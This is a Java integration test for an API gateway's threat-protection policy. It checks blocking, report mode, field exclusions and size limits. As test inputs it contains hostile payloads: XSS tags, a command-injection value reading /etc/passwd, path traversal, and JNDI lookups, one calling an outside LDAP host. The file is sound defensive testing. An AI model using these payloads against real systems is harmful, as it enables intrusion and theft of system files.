package dev.bulwark.dataplane.policy.threat;

import static dev.bulwark.dataplane.Snapshots.api;
import static dev.bulwark.dataplane.Snapshots.of;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.bulwark.contracts.event.SecurityEvent;
import dev.bulwark.contracts.event.SecurityEventType;
import dev.bulwark.contracts.event.ThreatMatch;
import dev.bulwark.contracts.policy.EnforcementMode;
import dev.bulwark.contracts.policy.ThreatExclusion;
import dev.bulwark.contracts.policy.ThreatFamily;
import dev.bulwark.contracts.policy.ThreatProtectionConfig;
import dev.bulwark.dataplane.GatewayHarness;
import dev.bulwark.dataplane.RawHttp;
import dev.bulwark.dataplane.TestUpstream;
import dev.bulwark.dataplane.event.EventSink;
import dev.bulwark.testing.RealServicesExtension;
import dev.bulwark.testing.TestRedis;
import io.vertx.core.Vertx;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Threat protection in a real gateway with the real policy factory: one API blocks, one reports,
 * one excludes a field; the upstream records what reached it.
 */
@ExtendWith(RealServicesExtension.class)
class ThreatProtectionPolicyTest {
    private final Vertx vertx = Vertx.vertx();
    private final ConcurrentLinkedQueue<String> received = new ConcurrentLinkedQueue<>();
    private final ConcurrentLinkedQueue<SecurityEvent> events = new ConcurrentLinkedQueue<>();
    private final HttpClient client = HttpClient.newHttpClient();
    private TestUpstream upstream;
    private GatewayHarness gateway;

    @BeforeEach
    void start(TestRedis redis) throws Exception {
        upstream = TestUpstream.start(vertx, request -> request.body().onSuccess(body -> {
            received.add(request.uri() + "|" + body);
            request.response().end("ok");
        }));
        EventSink sink = new EventSink() {
            @Override
            public void request(String tenantId, String apiId, String applicationId, String keyId, int status, long latencyMicros,
                                long requestBytes, long responseBytes) {
            }

            @Override
            public void security(SecurityEvent event) {
                events.add(event);
            }
        };
        ThreatProtectionConfig block = new ThreatProtectionConfig(null, null, null,
                List.of(new ThreatExclusion("body/article/html", List.of(ThreatFamily.XSS), null)), 4_096L);
        ThreatProtectionConfig report = new ThreatProtectionConfig(EnforcementMode.REPORT, null, null, null, null);
        gateway = GatewayHarness.start(redis, of(1, api("guarded", "/guarded", upstream.url(), block),
                api("watched", "/watched", upstream.url(), report)), Map.of("BULWARK_GW_REDIS_KEY_PREFIX", redis.keyPrefix()), sink, null);
    }

    @AfterEach
    void stop() {
        gateway.close();
        vertx.close();
    }

    @Test
    void anAttackInTheQueryIsRefusedWithoutEchoingItAndRecorded() throws Exception {
        HttpResponse<String> response = get("/guarded/search?q=" + URLEncoder.encode("<script>alert(1)</script>", StandardCharsets.UTF_8));

        assertThat(response.statusCode()).isEqualTo(403);
        assertThat(response.headers().firstValue("content-type")).hasValueSatisfying(type -> assertThat(type).contains("problem+json"));
        assertThat(response.body()).contains("\"key\":\"INJECTION_DETECTED\"").contains("query.q").contains("xss")
                .doesNotContain("script").doesNotContain("alert");
        assertThat(received).isEmpty();
        await().atMost(Duration.ofSeconds(5)).until(() -> !events.isEmpty());
        SecurityEvent event = events.peek();
        assertThat(event.type()).isEqualTo(SecurityEventType.INJECTION);
        assertThat(event.threat()).isEqualTo(new ThreatMatch("xss-script-tag", ThreatFamily.XSS, "query.q", true));
    }

    @Test
    void anAttackInAJsonBodyIsRefusedWithItsPointer() throws Exception {
        HttpResponse<String> response = post("/guarded/orders", "application/json",
                "{\"items\":[{\"sku\":\"a\"},{\"note\":\"x; cat /etc/passwd\"}]}");

        assertThat(response.statusCode()).isEqualTo(403);
        assertThat(response.body()).contains("body/items/1/note").doesNotContain("passwd");
        assertThat(received).isEmpty();
    }

    @Test
    void anAttackInAParameterNameIsRefusedWithoutEchoingTheName() throws Exception {
        HttpResponse<String> response = get("/guarded/x?" + URLEncoder.encode("<svg onload=alert(1)>", StandardCharsets.UTF_8) + "=1");

        assertThat(response.statusCode()).isEqualTo(403);
        assertThat(response.body()).doesNotContain("svg").doesNotContain("onload").contains("\"location\":\"query\"");
    }

    @Test
    void ordinaryTrafficPassesByteForByte() throws Exception {
        String body = "{\"name\":\"Zoë O'Neil\",\"note\":\"Leave it at the door; thanks!\",\"items\":[1,2,3]}";

        HttpResponse<String> query = get("/guarded/search?q=cat+tree&page=2");
        HttpResponse<String> json = post("/guarded/orders", "application/json", body);

        assertThat(query.statusCode()).isEqualTo(200);
        assertThat(json.statusCode()).isEqualTo(200);
        assertThat(received).contains("/search?q=cat+tree&page=2|", "/orders|" + body);
    }

    @Test
    void anExcludedLocationIsNotInspectedForTheExcludedFamilyOnly() throws Exception {
        HttpResponse<String> html = post("/guarded/posts", "application/json", "{\"article\":{\"html\":\"<iframe src=x></iframe>\"}}");
        HttpResponse<String> jndi = post("/guarded/posts", "application/json", "{\"article\":{\"html\":\"${jndi:ldap://x/a}\"}}");

        assertThat(html.statusCode()).isEqualTo(200);
        assertThat(jndi.statusCode()).isEqualTo(403);
        assertThat(jndi.body()).contains("java");
    }

    @Test
    void reportModeRecordsTheFindingAndForwards() throws Exception {
        HttpResponse<String> response = get("/watched/x?path=" + URLEncoder.encode("../../../etc/passwd", StandardCharsets.UTF_8));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(received).hasSize(1);
        await().atMost(Duration.ofSeconds(5)).until(() -> !events.isEmpty());
        assertThat(events.peek().threat()).isEqualTo(new ThreatMatch("lfi-path-traversal", ThreatFamily.TRAVERSAL, "query.path", false));
    }

    @Test
    void aBodyLargerThanTheInspectionBoundIsRefusedUninspected() throws Exception {
        RawHttp.Reply reply = RawHttp.exchange(gateway.port, ("POST /guarded/upload HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
                + "Content-Length: 5000\r\n\r\n" + "a".repeat(5_000)).getBytes(StandardCharsets.ISO_8859_1), 5_000);

        assertThat(reply.text()).startsWith("HTTP/1.1 413").contains("REQUEST_TOO_LARGE");
        assertThat(received).isEmpty();
    }

    @Test
    void headersAndCookiesAreInspected() throws Exception {
        HttpResponse<String> agent = send(HttpRequest.newBuilder(URI.create(gateway.url("/guarded/x")))
                .header("User-Agent", "${jndi:ldap://203.0.113.9/a}").GET());
        HttpResponse<String> cookie = send(HttpRequest.newBuilder(URI.create(gateway.url("/guarded/x")))
                .header("Cookie", "theme=dark; prefs=%3Cscript%3E").GET());

        assertThat(agent.statusCode()).isEqualTo(403);
        assertThat(agent.body()).contains("header.user-agent");
        assertThat(cookie.statusCode()).isEqualTo(403);
        assertThat(cookie.body()).contains("cookie.prefs");
    }

    private HttpResponse<String> get(String path) throws Exception {
        return send(HttpRequest.newBuilder(URI.create(gateway.url(path))).GET());
    }

    private HttpResponse<String> post(String path, String type, String body) throws Exception {
        return send(HttpRequest.newBuilder(URI.create(gateway.url(path))).header("Content-Type", type)
                .POST(HttpRequest.BodyPublishers.ofString(body)));
    }

    private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
        return client.send(request.timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
    }
}
